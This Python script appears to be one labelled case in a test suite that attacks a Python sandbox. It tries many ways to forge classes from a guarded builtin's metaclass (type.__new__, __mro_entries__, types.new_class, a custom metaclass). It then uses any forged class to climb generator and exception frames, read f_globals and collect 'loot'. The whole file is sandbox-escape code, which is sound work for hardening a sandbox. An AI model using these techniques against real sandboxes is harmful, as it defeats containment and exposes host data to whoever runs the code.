"""A5, A8: making classes of, or below, the metaclass of the presences, whose classes the guards would trust."""

loot = []
Sealed = type(type(print))
Presence = type(print)


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def read_text(cls):
    text = str.__new__(cls, "{0.gi_frame.f_back.f_back.f_globals}")

    def walk():
        yield text.format(it)

    it = walk()
    print(next(it)[:300])


def read_frames(meta):
    read = type.__call__(meta, "C", (), {}).__getattribute__
    loot.append(read)

    def climb():
        frame = read(it, "gi_frame")
        while frame is not None:
            loot.append(frame)
            frame = read(frame, "f_back")
        yield

    it = climb()
    next(it)


class Bases(tuple):
    pass


class Entries:
    def __mro_entries__(self, bases):
        return (Presence,)


makers = [
    lambda base: type.__new__(Sealed, "S", (base,), {}),
    lambda base: type.__call__(Sealed, "S", (base,), {}),
    lambda base: Sealed("S", (base,), {}),
    lambda base: type("S", (Presence, base), {}),
    lambda base: type.__new__(type, "S", (Presence,), {}),
    lambda base: type.__new__(type, "S", Bases((Presence,)), {}),
    lambda base: type.__new__(type, "S", Bases((Sealed,)), {}),
    lambda base: type("S", (Sealed,), {}),
    lambda base: super(Sealed, Presence).__new__(Sealed, "S", (base,), {}),
    lambda base: super(type, Sealed).__new__(Sealed, "S", (base,), {}),
    lambda base: object.__new__(Sealed),
    lambda base: type.__new__(type(HostError), "S", (base,), {}),
]


def by_statement():
    class S(str, metaclass=Sealed):
        pass

    return S


def by_statement_below():
    class S(Presence):
        pass

    return S


def by_entries():
    class S(Entries()):
        pass

    return S


def by_entries_and_metaclass():
    class S(Entries(), metaclass=type):
        pass

    return S


def by_host_error():
    class S(HostError):
        pass

    return S


def by_library():
    import types

    return types.new_class("S", (str,), {"metaclass": Sealed})


def by_chosen_metaclass():
    class M(type):
        def __new__(mcs, name, bases, namespace):
            return type.__new__(Sealed, name, bases, dict(namespace))

    class S(str, metaclass=M):
        pass

    return S


makers += [
    lambda base, make=make: make()
    for make in (
        by_statement,
        by_statement_below,
        by_entries,
        by_entries_and_metaclass,
        by_host_error,
        by_library,
        by_chosen_metaclass,
    )
]
for make in makers:
    made = attempt(lambda: make(str))
    if made is not None:
        loot.append(made)
        attempt(lambda: read_text(made))
    made = attempt(lambda: make(type))
    if made is not None:
        loot.append(made)
        attempt(lambda: read_frames(made))
    made = attempt(lambda: make(Exception))
    if made is not None:
        try:
            raise BaseException.__new__(made)
        except BaseException as error:
            attempt(lambda: loot.append(error.__context__))
